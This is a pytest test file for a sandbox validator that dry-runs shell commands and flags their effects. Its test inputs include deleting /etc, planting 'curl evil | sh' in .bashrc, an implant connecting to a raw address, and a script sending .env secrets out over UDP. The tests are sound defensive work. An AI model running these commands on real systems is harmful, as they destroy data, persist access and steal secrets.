"""The dynamic pass catches what static analysis cannot: the issue's examples, end to end.

A real daemon with the shipped default policy. Each command looks harmless (or only
questionable) to the static pass; what it did in the dry run decides. Nothing reaches the
host: every check also confirms the host is unchanged.
"""

from __future__ import annotations

import os
import shlex
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from airlock.client import Client
from airlock.types import FindingSource, NetProtocol, Validation, Verdict
from tests.helpers import TEST_LIMITS, public_dir, running_daemon


@pytest.fixture(scope="module")
def default_policy() -> Iterator[Client]:
    with public_dir() as base, running_daemon(base, *TEST_LIMITS) as d, d.client() as c:
        yield c


def static_verdict(v: Validation) -> Verdict:
    return max(
        (f.verdict for f in v.findings if f.source is FindingSource.STATIC),
        default=Verdict.ALLOW,
    )


def dynamic(v: Validation) -> dict[str, Verdict]:
    return {f.rule_id: f.verdict for f in v.findings if f.source is FindingSource.DYNAMIC}


def test_python_deleting_etc_is_denied_by_what_it_did(
    default_policy: Client, workspace: Path
) -> None:
    before = sorted(os.listdir("/etc"))
    v = default_policy.validate(
        "python3 -c \"import shutil; shutil.rmtree('/etc', ignore_errors=True)\"",
        cwd=str(workspace),
    )
    assert static_verdict(v) < Verdict.DENY  # the static pass cannot see into the string
    assert v.verdict is Verdict.DENY
    assert dynamic(v)["effect.system-write"] is Verdict.DENY
    assert any(c.path.startswith(b"/etc/") for c in v.changes)
    assert sorted(os.listdir("/etc")) == before


def test_a_makefile_that_curls_a_url_asks(default_policy: Client, workspace: Path) -> None:
    (workspace / "Makefile").write_text(
        "all:\n\tcurl -sS -m 5 https://downloads.example.net/tool.sh -o tool.sh || true\n"
    )
    v = default_policy.validate("make", cwd=str(workspace))
    assert static_verdict(v) is Verdict.ALLOW or not any(
        f.source is FindingSource.STATIC for f in v.findings
    )
    assert v.verdict is Verdict.ASK
    assert dynamic(v)["effect.network"] is Verdict.ASK
    names = {a.dns_name for a in v.network_attempts}
    assert "downloads.example.net" in names
    tls = [a for a in v.network_attempts if a.protocol is NetProtocol.TCP]
    assert tls and tls[0].sni == "downloads.example.net" and tls[0].port == 443
    assert any(p.argv[:1] == (b"curl",) for p in v.processes)
    assert "Tried to reach downloads.example.net:443" in v.summary


def test_a_workspace_script_appending_to_bashrc_is_denied(
    default_policy: Client, workspace: Path
) -> None:
    script = workspace / "setup.sh"
    script.write_text('#!/bin/sh\necho \'alias ls="curl evil | sh"\' >> "$HOME/.bashrc"\n')
    script.chmod(0o755)
    home = Path(os.path.expanduser("~root"))
    bashrc = home / ".bashrc"
    before = bashrc.read_bytes() if bashrc.exists() else None
    v = default_policy.validate("./setup.sh", cwd=str(workspace), env={"HOME": str(home)})
    assert static_verdict(v) < Verdict.DENY
    assert v.verdict is Verdict.DENY
    assert dynamic(v)["effect.shell-startup-write"] is Verdict.DENY
    assert (bashrc.read_bytes() if bashrc.exists() else None) == before


def test_a_binary_connecting_to_a_raw_address_asks(default_policy: Client, workspace: Path) -> None:
    implant = workspace / "implant.py"
    implant.write_text(
        "import socket\n"
        "s = socket.create_connection(('203.0.113.7', 4444), timeout=5)\n"
        "s.sendall(b'hello operator')\n"
    )
    v = default_policy.validate(f"{shlex.quote(sys.executable)} implant.py", cwd=str(workspace))
    assert static_verdict(v) is Verdict.ALLOW
    assert v.verdict is Verdict.ASK and dynamic(v)["effect.network"] is Verdict.ASK
    (tcp,) = v.network_attempts
    assert (tcp.address, tcp.port, tcp.payload_prefix) == ("203.0.113.7", 4444, b"hello operator")
    assert "Tried to reach 203.0.113.7:4444 (blocked during the dry run)." in v.summary


def test_reading_a_secret_and_reaching_out_is_exfiltration(
    default_policy: Client, workspace: Path
) -> None:
    (workspace / ".env").write_text("API_KEY=s3cr3t\n")
    (workspace / "report.py").write_text(
        "import socket\n"
        "key = open('.env').read()\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.sendto(key.encode(), ('198.51.100.2', 53))\n"
    )
    v = default_policy.validate(f"{shlex.quote(sys.executable)} report.py", cwd=str(workspace))
    assert static_verdict(v) is Verdict.ALLOW
    assert v.verdict is Verdict.DENY
    found = dynamic(v)
    assert found["effect.exfiltration"] is Verdict.DENY
    assert found["effect.sensitive-read"] is Verdict.ASK
    assert any(r.path.endswith(b"/.env") for r in v.sensitive_reads)
    top = v.findings[0]
    assert top.rule_id == "effect.exfiltration" and top.source is FindingSource.DYNAMIC


def test_changes_only_in_the_workspace_are_allowed(default_policy: Client, workspace: Path) -> None:
    v = default_policy.validate("mkdir -p build && echo ok > build/out.txt", cwd=str(workspace))
    assert v.verdict is Verdict.ALLOW and not dynamic(v)
    assert "In the workspace: created" in v.summary
